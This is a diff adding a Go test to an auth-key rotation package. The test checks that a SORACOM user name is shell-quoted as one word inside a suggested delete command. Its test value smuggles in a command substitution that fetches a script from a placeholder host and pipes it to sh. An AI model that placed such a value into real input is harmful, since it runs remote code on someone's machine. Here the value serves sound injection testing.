@@ -164,6 +164,20 @@ func sortStrings(s []string) {
 	}
 }
 
+// The commands a person is told to run carry the SAM user name SORACOM answered: it is
+// one word of the command whatever it holds, never a command of its own.
+func TestAUserNameFromSORACOMIsOneWordOfTheCommand(t *testing.T) {
+	w := newWorld()
+	w.fail["delete keyId-old"] = answered("500")
+	p := plan
+	p.UserName = "ci $(curl e.test|sh)"
+	res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, p, quick)
+	want := "soracom users auth-keys delete --user-name 'ci $(curl e.test|sh)' --auth-key-id keyId-old"
+	if err != nil || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], want) {
+		t.Errorf("err %v, warnings %q; want one naming %s", err, res.Warnings, want)
+	}
+}
+
 // TestCancellationAtEachStepLeavesOneWorkingAuthKey cancels the run as each step starts:
 // whatever the step, the secrets end on one AuthKey that exists.
 func TestCancellationAtEachStepLeavesOneWorkingAuthKey(t *testing.T) {
